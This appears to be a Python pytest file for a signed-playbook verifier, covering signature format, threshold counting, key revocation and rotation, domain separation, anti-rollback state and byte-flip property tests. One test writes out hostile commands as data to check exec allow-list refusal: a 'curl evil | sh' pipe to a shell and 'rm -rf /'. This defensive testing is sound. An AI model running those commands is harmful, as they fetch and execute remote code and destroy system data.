"""Playbook signatures and the full verification (recovery/signing.py, recovery/verify.py).

Every refusal reason has its own test asserting its message. The property tests flip
one byte (XOR with 1..255) anywhere in the playbook or in its signature file: with a
keyring whose threshold equals the number of signatures, every flip is refused. With
a spare signature (2 of 3), a flip may only *remove* one signature from the count (a
line turned into a comment, a key id changed to one nobody knows) — never make a
changed playbook or a changed signature count.
"""

from __future__ import annotations

import base64
import hashlib
import json
import stat
from datetime import datetime, timezone
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from recovery.keys import Keyring, add_key, fingerprint, init_keyring, key_id, revoke_key
from recovery.signing import (
    CONTEXT,
    SigningError,
    sign_bytes,
    sign_playbook,
    signature_path,
    signed_message,
    verify_signatures,
)
from recovery.verify import REASONS, RollbackState, VerificationError, Verified, verify_playbook
from tests.support.files import spy_fsync

NOW = datetime(2026, 11, 26, 12, 0, tzinfo=timezone.utc)


def playbook_bytes(name: str = "fibre-lost", version: int = 3, expires: str = "2027-06-30T00:00:00Z",
                   exec_argv: list[str] | None = None, rollback_exec: list[str] | None = None) -> bytes:
    text = f'''# a test playbook
name = "{name}"
version = {version}
expires = {expires}
description = "Fibre lost: move to Starlink and tell the desk"
requires_role = "primary"

[[trigger]]
event = "ActiveUplinkChanged"
where = {{ active = "starlink" }}

[[step]]
action = "uplink.use"
args = {{ name = "starlink" }}
timeout = "10s"
on_failure = "rollback"
[step.rollback]
action = "uplink.auto"

[[step]]
action = "notify"
args = {{ message = "fibre lost, on Starlink" }}
'''
    if exec_argv:
        text += f'\n[[step]]\naction = "exec"\nargs = {{ argv = {json.dumps(exec_argv)} }}\n'
    if rollback_exec:
        text += ('\n[[step]]\naction = "notify"\nargs = { message = "x" }\n[step.rollback]\naction = "exec"\n'
                 f'args = {{ argv = {json.dumps(rollback_exec)} }}\n')
    return text.encode()


class World:
    """Keys, a keyring and a playbook directory."""

    def __init__(self, tmp: Path, n: int = 3, threshold: int = 2, exec_allow: tuple[str, ...] = ()) -> None:
        self.tmp = tmp
        self.keys = [Ed25519PrivateKey.generate() for _ in range(n)]
        self.holders = ["alice", "bob", "carol", "dave", "erin"][:n]
        self.keyring = init_keyring(threshold, [(k.public_key(), h) for k, h in zip(self.keys, self.holders)],
                                    exec_allow, source="test-keyring.toml")
        self.state = RollbackState(tmp / "state" / "recovery" / "versions.json")

    def write(self, data: bytes | None = None, name: str = "fibre-lost") -> Path:
        path = self.tmp / f"{name}.toml"
        path.write_bytes(playbook_bytes() if data is None else data)
        signature_path(path).unlink(missing_ok=True)
        return path

    def sign(self, path: Path, *which: int) -> None:
        for i in which:
            sign_playbook(path, self.keys[i])

    def verify(self, path: Path, keyring: Keyring | None = None, now: datetime = NOW) -> Verified:
        return verify_playbook(path, keyring or self.keyring, now=now, rollback_state=self.state)

    def refusal(self, path: Path, keyring: Keyring | None = None, now: datetime = NOW) -> VerificationError:
        with pytest.raises(VerificationError) as info:
            self.verify(path, keyring, now)
        exc = info.value
        assert exc.reason in REASONS
        assert "\n" not in exc.message and str(exc) == exc.message
        return exc

    def kid(self, i: int) -> str:
        return key_id(self.keys[i].public_key())


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


# --------------------------------------------------------------------------- the format


def test_signed_message_is_the_contract_envelope() -> None:
    kid = "00112233445566778899aabbccddeeff"
    data = b"name = 'x'\n"
    assert signed_message(data, kid) == (b"lifeline-playbook-signature-v1\0" + bytes.fromhex(kid)
                                         + hashlib.sha256(data).digest())
    assert CONTEXT == b"lifeline-playbook-signature-v1\0"


def test_sign_appends_lines_and_keeps_the_others(world: World) -> None:
    path = world.write()
    world.sign(path, 0)
    first = signature_path(path).read_text()
    line = sign_playbook(path, world.keys[1])
    text = signature_path(path).read_text()
    assert text.startswith(first) and text.endswith("\n")
    assert line.line == 2 and line.key_id == world.kid(1)
    lines = text.splitlines()
    assert [ln.split()[:2] for ln in lines] == [["lifeline-sig-v1", world.kid(0)], ["lifeline-sig-v1", world.kid(1)]]
    assert all(len(base64.b64decode(ln.split()[2])) == 64 for ln in lines)
    assert not any(ln.startswith("#") for ln in lines), "the signer writes no (unsigned) comments"


def test_comments_and_blank_lines_are_ignored(world: World) -> None:
    path = world.write()
    world.sign(path, 0, 1)
    sig = signature_path(path)
    sig.write_text("# signed by alice and bob\n\n" + sig.read_text())
    assert world.verify(path).signers == (world.kid(0), world.kid(1))
    assert [s.line for s in world.verify(path).signed_by] == [3, 4]


def test_sign_refuses_a_second_signature_by_the_same_key(world: World) -> None:
    path = world.write()
    world.sign(path, 0)
    before = signature_path(path).read_bytes()
    with pytest.raises(SigningError, match=rf"already signed by this key \({fingerprint(world.kid(0))}, line 1\)"):
        sign_playbook(path, world.keys[0])
    assert signature_path(path).read_bytes() == before


def test_sign_refuses_a_damaged_signature_file(world: World) -> None:
    path = world.write()
    signature_path(path).write_text("lifeline-sig-v1 nonsense\n")
    with pytest.raises(SigningError, match="line 1 is not a signature line"):
        sign_playbook(path, world.keys[0])


def test_sign_with_keyring_refuses_when_the_playbook_changed_since_others_signed(world: World) -> None:
    path = world.write()
    world.sign(path, 0)
    path.write_bytes(playbook_bytes(version=4))
    with pytest.raises(SigningError, match=r"alice's key .* does not match these bytes: the playbook changed since"):
        sign_playbook(path, world.keys[1], keyring=world.keyring)


def test_sign_adds_a_missing_final_newline(world: World) -> None:
    path = world.write()
    world.sign(path, 0)
    sig = signature_path(path)
    sig.write_text(sig.read_text().rstrip("\n"))
    assert sign_playbook(path, world.keys[1]).line == 2
    assert world.verify(path).signers == (world.kid(0), world.kid(1))


def test_verify_signatures_report(world: World) -> None:
    data = playbook_bytes()
    stranger = Ed25519PrivateKey.generate()
    text = "\n".join(sign_bytes(data, k).text() for k in (world.keys[0], stranger, world.keys[1])) + "\n"
    report = verify_signatures(data, text, world.keyring)
    assert report.valid == [world.kid(0), world.kid(1)]
    assert len(report.problems) == 1 and "not in the keyring test-keyring.toml" in report.problems[0]
    assert report.fatal is None


# --------------------------------------------------------------------------- PASS


def test_a_properly_signed_playbook_passes(world: World) -> None:
    path = world.write()
    world.sign(path, 0, 2)
    verified = world.verify(path)
    assert verified.playbook.name == "fibre-lost" and verified.playbook.version == 3
    assert verified.signers == (world.kid(0), world.kid(2))
    assert [(s.holder, s.fingerprint, s.line) for s in verified.signed_by] == [
        ("alice", fingerprint(world.kid(0)), 1), ("carol", fingerprint(world.kid(2)), 2)]
    assert verified.threshold == 2 and verified.notes == () and verified.highest_run is None
    assert verified.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    json.dumps(list(verified.signers))  # fit for the audit log as it is


# --------------------------------------------------------------------------- every refusal


def test_refused_modified_playbook_byte(world: World) -> None:
    path = world.write()
    world.sign(path, 0, 1)
    path.write_bytes(path.read_bytes().replace(b"starlink", b"starlinx", 1))
    exc = world.refusal(path)
    assert exc.reason == "modified"
    assert "changed since it was signed: none of the 2 signature(s) by known keys matches its bytes" in exc.message
    assert exc.message.startswith(str(path))


def test_refused_modified_signature(world: World) -> None:
    path = world.write()
    world.sign(path, 0, 1)
    sig = signature_path(path)
    lines = sig.read_text().splitlines()
    raw = bytearray(base64.b64decode(lines[1].split()[2]))
    raw[10] ^= 0x01
    lines[1] = f"lifeline-sig-v1 {world.kid(1)} {base64.b64encode(bytes(raw)).decode()}"
    sig.write_text("\n".join(lines) + "\n")
    exc = world.refusal(path)
    assert exc.reason == "modified"
    assert f"the signature on line 2 (bob's key {fingerprint(world.kid(1))}) does not match these bytes" in exc.message


def test_refused_malformed_signature_line(world: World) -> None:
    path = world.write()
    world.sign(path, 0, 1)
    sig = signature_path(path)
    sig.write_text(sig.read_text().replace("\n", "\r\n"))
    exc = world.refusal(path)
    assert exc.reason == "modified"
    assert "line 1 is not a signature line (it ends in a CR: Windows line endings)" in exc.message


def test_refused_unknown_key(world: World) -> None:
    path = world.write()
    world.sign(path, 0)
    stranger = Ed25519PrivateKey.generate()
    sign_playbook(path, stranger)
    exc = world.refusal(path)
    assert exc.reason == "unknown_key"
    assert exc.message == (f"{path}: 1 valid signature(s), 2 needed: line 2 is signed by key "
                           f"{fingerprint(key_id(stranger.public_key()))}, which is not in the keyring "
                           "test-keyring.toml; add the key to test-keyring.toml (`lifeline keyring add`) or have a "
                           "listed holder sign")


def test_refused_key_that_may_not_sign(world: World) -> None:
    observer = Ed25519PrivateKey.generate()
    keyring = add_key(world.keyring, observer.public_key(), "host", can_sign=False)
    path = world.write()
    world.sign(path, 0)
    sign_playbook(path, observer)
    exc = world.refusal(path, keyring)
    assert exc.reason == "unknown_key"
    assert "line 2 is signed by host's key" in exc.message and "may not sign playbooks (can_sign = false)" in exc.message


def test_refused_revoked_key(world: World) -> None:
    path = world.write()
    world.sign(path, 0, 1)
    keyring, _ = revoke_key(world.keyring, world.kid(0))
    exc = world.refusal(path, keyring)
    assert exc.reason == "revoked_key"
    assert (f"1 valid signature(s), 2 needed: line 1 is signed by alice's key {fingerprint(world.kid(0))}, which is "
            "revoked; revoked keys no longer count: have a current key holder sign") in exc.message


def test_refused_same_key_twice(world: World) -> None:
    path = world.write()
    world.sign(path, 0)
    sig = signature_path(path)
    sig.write_text(sig.read_text() * 2)  # the same line again: one key must not count twice
    exc = world.refusal(path)
    assert exc.reason == "duplicate_key"
    assert (f"line 2 repeats the signature of alice's key {fingerprint(world.kid(0))} (first on line 1): a key counts "
            "once; delete the repeated line") in exc.message


def test_refused_below_threshold(world: World) -> None:
    path = world.write()
    world.sign(path, 1)
    exc = world.refusal(path)
    assert exc.reason == "threshold"
    assert exc.message == (f"{path}: 1 valid signature(s), 2 needed (distinct signing keys of test-keyring.toml); "
                           f"have 1 more operator(s) run `lifeline playbook sign {path} --key NAME.key`")
    assert exc.report is not None and exc.report.valid == [world.kid(1)]


def test_refused_no_signatures(world: World) -> None:
    path = world.write()
    exc = world.refusal(path)
    assert exc.reason == "no_signatures"
    assert exc.message == (f"{path}.sig: missing: the playbook is not signed; sign it with `lifeline playbook sign "
                           f"{path} --key NAME.key`")
    signature_path(path).write_text("# nobody yet\n")
    exc = world.refusal(path)
    assert exc.reason == "no_signatures" and "no signatures" in exc.message


def test_refused_expired(world: World) -> None:
    path = world.write(playbook_bytes(expires="2026-11-20T00:00:00Z"))
    world.sign(path, 0, 1)
    exc = world.refusal(path)
    assert exc.reason == "expired"
    assert exc.message == (f"{path}: expired at 2026-11-20T00:00:00Z (6 days ago); review it, raise `version` and "
                           "`expires`, and have it signed again")
    assert exc.playbook is not None and exc.playbook.name == "fibre-lost"
    # the boundary: valid until the instant itself
    assert world.verify(path, now=datetime(2026, 11, 19, 23, 59, 59, tzinfo=timezone.utc))
    assert world.refusal(path, now=datetime(2026, 11, 20, tzinfo=timezone.utc)).reason == "expired"


def test_refused_rollback(world: World) -> None:
    world.state.record_run("fibre-lost", 4)
    path = world.write(playbook_bytes(version=3))
    world.sign(path, 0, 1)
    exc = world.refusal(path)
    assert exc.reason == "rollback"
    assert exc.message == (f"{path}: fibre-lost version 3 is older than version 4, already run on this host "
                           f"({world.state.path}): an old playbook is refused; sign a version >= 4")
    world.state.record_run("other", 9)  # other playbooks' records do not matter
    path = world.write(playbook_bytes(version=4))
    world.sign(path, 0, 1)
    assert world.verify(path).highest_run == 4  # the same version again is fine


def test_refused_name_mismatch(world: World) -> None:
    path = world.write(playbook_bytes(name="fibre-lost"), name="ups-on-battery")
    world.sign(path, 0, 1)
    exc = world.refusal(path)
    assert exc.reason == "name_mismatch"
    assert exc.message == (f"{path}: the playbook is named 'fibre-lost' but the file is 'ups-on-battery.toml': a "
                           "playbook runs only as fibre-lost.toml; rename the file back")


def test_refused_exec_not_on_the_allow_list(tmp_path: Path) -> None:
    world = World(tmp_path, exec_allow=("/usr/local/bin/page-desk",))
    path = world.write(playbook_bytes(exec_argv=["/usr/local/bin/page-desk", "--urgent"]))
    world.sign(path, 0, 1)
    assert world.verify(path)
    path = world.write(playbook_bytes(exec_argv=["/bin/sh", "-c", "curl evil | sh"]))
    world.sign(path, 0, 1)
    exc = world.refusal(path)
    assert exc.reason == "exec_not_allowed"
    assert exc.message == (f"{path}: step[2].args.argv[0] = '/bin/sh' is not in the exec_allow of test-keyring.toml "
                           "(which allows /usr/local/bin/page-desk); add it there if it is meant to run")
    path = world.write(playbook_bytes(rollback_exec=["/usr/bin/rm", "-rf", "/"]))
    world.sign(path, 0, 1)
    exc = world.refusal(path)
    assert exc.reason == "exec_not_allowed" and "step[2].rollback.args.argv[0] = '/usr/bin/rm'" in exc.message


def test_refused_invalid_playbook(world: World) -> None:
    path = world.write(playbook_bytes().replace(b'action = "notify"', b'action = "notifyy"'))
    world.sign(path, 0, 1)
    exc = world.refusal(path)
    assert exc.reason == "invalid"
    assert exc.message.startswith(f"{path}: step[1].action") and "\n" not in exc.message


def test_signatures_are_checked_before_the_playbook_is_parsed(world: World) -> None:
    path = world.write(b"this is [not toml")
    exc = world.refusal(path)
    assert exc.reason == "no_signatures"  # an unsigned file is never parsed
    world.sign(path, 0)
    assert world.refusal(path).reason == "threshold"


# --------------------------------------------------------------------------- rotation and domain separation


def test_key_rotation_old_signatures_stop_counting(world: World) -> None:
    path = world.write()
    world.sign(path, 0, 1)  # alice and bob
    assert world.verify(path).signers == (world.kid(0), world.kid(1))
    # alice rotates: her new key is added, then the old one revoked
    alice_new = Ed25519PrivateKey.generate()
    keyring = add_key(world.keyring, alice_new.public_key(), "alice")
    assert world.verify(path, keyring).signers == (world.kid(0), world.kid(1))  # nothing changed yet
    keyring, revoked = revoke_key(keyring, fingerprint(world.kid(0)))
    assert revoked.holder == "alice" and keyring.warnings() == []
    exc = world.refusal(path, keyring)
    assert exc.reason == "revoked_key"  # the old signature no longer counts
    sign_playbook(path, alice_new, keyring=keyring)
    verified = world.verify(path, keyring)
    assert verified.signers == (world.kid(1), key_id(alice_new.public_key()))
    assert verified.notes == (f"line 1 is signed by alice's key {fingerprint(world.kid(0))}, which is revoked",)
    # a playbook signed only by old keys stays refused however many there are
    other = world.write(playbook_bytes(name="primary-lost"), name="primary-lost")
    world.sign(other, 0)
    sign_playbook(other, world.keys[2])
    assert world.refusal(other, keyring).reason == "revoked_key"


@pytest.mark.parametrize("context", [b"lifeline-audit-v1\0", b"lifeline-playbook-signature-v2\0", b""])
def test_domain_separation_other_contexts_do_not_verify(world: World, context: bytes) -> None:
    path = world.write()
    data = path.read_bytes()
    lines = [sign_bytes(data, world.keys[i], context=context).text() for i in (0, 1)]
    signature_path(path).write_text("\n".join(lines) + "\n")
    exc = world.refusal(path)
    assert exc.reason == "modified"
    # the very same bytes and keys under the right context pass
    lines = [sign_bytes(data, world.keys[i]).text() for i in (0, 1)]
    signature_path(path).write_text("\n".join(lines) + "\n")
    assert world.verify(path)


def test_a_raw_signature_over_the_bytes_does_not_verify(world: World) -> None:
    path = world.write()
    data = path.read_bytes()
    lines = [f"lifeline-sig-v1 {world.kid(i)} {base64.b64encode(world.keys[i].sign(data)).decode()}" for i in (0, 1)]
    signature_path(path).write_text("\n".join(lines) + "\n")
    assert world.refusal(path).reason == "modified"


def test_a_signature_cannot_be_moved_to_another_key_id(world: World) -> None:
    path = world.write()
    world.sign(path, 0, 1)
    sig = signature_path(path)
    sig.write_text(sig.read_text().replace(world.kid(1), world.kid(2)))  # bob's signature claimed for carol
    exc = world.refusal(path)
    assert exc.reason == "modified" and "line 2 (carol's key" in exc.message


# --------------------------------------------------------------------------- property tests


def _flip(data: bytes, index: int, mask: int) -> bytes:
    out = bytearray(data)
    out[index % len(out)] ^= mask
    return bytes(out)


@pytest.fixture(scope="module")
def signed3(tmp_path_factory: pytest.TempPathFactory) -> tuple[World, Path, bytes, bytes]:
    """A 3-of-3 keyring and a playbook signed by all three."""
    world = World(tmp_path_factory.mktemp("prop3"), n=3, threshold=3)
    path = world.write()
    world.sign(path, 0, 1, 2)
    assert world.verify(path)
    return world, path, path.read_bytes(), signature_path(path).read_bytes()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(index=st.integers(min_value=0, max_value=10_000), mask=st.integers(min_value=1, max_value=255))
def test_property_any_flipped_playbook_byte_is_refused(signed3, index: int, mask: int) -> None:
    world, path, data, sig = signed3
    path.write_bytes(_flip(data, index, mask))
    signature_path(path).write_bytes(sig)
    try:
        with pytest.raises(VerificationError) as info:
            world.verify(path)
        assert info.value.reason == "modified"
    finally:
        path.write_bytes(data)


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(index=st.integers(min_value=0, max_value=10_000), mask=st.integers(min_value=1, max_value=255))
def test_property_any_flipped_signature_byte_is_refused(signed3, index: int, mask: int) -> None:
    world, path, data, sig = signed3
    path.write_bytes(data)
    signature_path(path).write_bytes(_flip(sig, index, mask))
    try:
        with pytest.raises(VerificationError):
            world.verify(path)
    finally:
        signature_path(path).write_bytes(sig)


def test_property_every_single_signature_byte_exhaustively(signed3) -> None:
    """Every position of the signature file, with the low bit and the high bit flipped."""
    world, path, _data, sig = signed3
    try:
        for index in range(len(sig)):
            for mask in (0x01, 0x20, 0x80):
                signature_path(path).write_bytes(_flip(sig, index, mask))
                with pytest.raises(VerificationError):
                    world.verify(path)
    finally:
        signature_path(path).write_bytes(sig)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(index=st.integers(min_value=0, max_value=10_000), mask=st.integers(min_value=1, max_value=255))
def test_property_with_a_spare_signature_a_flip_can_only_remove_one(tmp_path_factory, index: int, mask: int) -> None:
    world = _spare_world(tmp_path_factory)
    path, sig = world.tmp / "fibre-lost.toml", world.sig
    flipped = _flip(sig, index, mask)
    signature_path(path).write_bytes(flipped)
    try:
        verified = world.verify(path)
    except VerificationError:
        return
    finally:
        signature_path(path).write_bytes(sig)
    # it passed: only by the two untouched signatures; the flipped line counts for nothing
    flipped_line = flipped[:index % len(sig)].count(b"\n") + 1
    assert len(verified.signers) == 2
    assert flipped_line not in [s.line for s in verified.signed_by]


_SPARE: dict[str, World] = {}


def _spare_world(factory: pytest.TempPathFactory) -> World:
    if "w" not in _SPARE:
        world = World(factory.mktemp("spare"), n=3, threshold=2)
        path = world.write()
        world.sign(path, 0, 1, 2)
        world.sig = signature_path(path).read_bytes()  # type: ignore[attr-defined]
        _SPARE["w"] = world
    return _SPARE["w"]


def test_property_every_single_playbook_byte_exhaustively(signed3) -> None:
    """Every position of the playbook, low and high bit flipped: always "modified"."""
    world, path, data, sig = signed3
    signature_path(path).write_bytes(sig)
    try:
        for index in range(len(data)):
            for mask in (0x01, 0x80):
                path.write_bytes(_flip(data, index, mask))
                with pytest.raises(VerificationError) as info:
                    world.verify(path)
                assert info.value.reason == "modified"
    finally:
        path.write_bytes(data)


# --------------------------------------------------------------------------- anti-rollback state


def test_rollback_state_records_durably(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    state = RollbackState.for_state_dir(tmp_path)
    assert state.path == tmp_path / "recovery" / "versions.json"
    assert state.check("fibre-lost", 1) is None and state.load() == {}
    synced = spy_fsync(monkeypatch)
    state.record_run("fibre-lost", 3)
    assert synced == [stat.S_IFREG, stat.S_IFDIR]  # the file, then its directory
    assert json.loads(state.path.read_text()) == {"fibre-lost": 3}
    state.record_run("fibre-lost", 2)  # never lowered
    state.record_run("ups-on-battery", 1)
    assert RollbackState(state.path).load() == {"fibre-lost": 3, "ups-on-battery": 1}
    assert state.check("fibre-lost", 3) == 3
    with pytest.raises(VerificationError, match="older than version 3"):
        state.check("fibre-lost", 2)
    assert not list(state.path.parent.glob(".*tmp"))


@pytest.mark.parametrize("content", [b"{not json", b"[1, 2]", b'{"fibre-lost": "3"}', b'{"fibre-lost": true}'])
def test_a_damaged_rollback_record_refuses(tmp_path: Path, content: bytes) -> None:
    state = RollbackState(tmp_path / "versions.json")
    state.path.write_bytes(content)
    with pytest.raises(VerificationError) as info:
        state.check("fibre-lost", 5)
    assert info.value.reason == "rollback" and "the anti-rollback record is damaged" in info.value.message
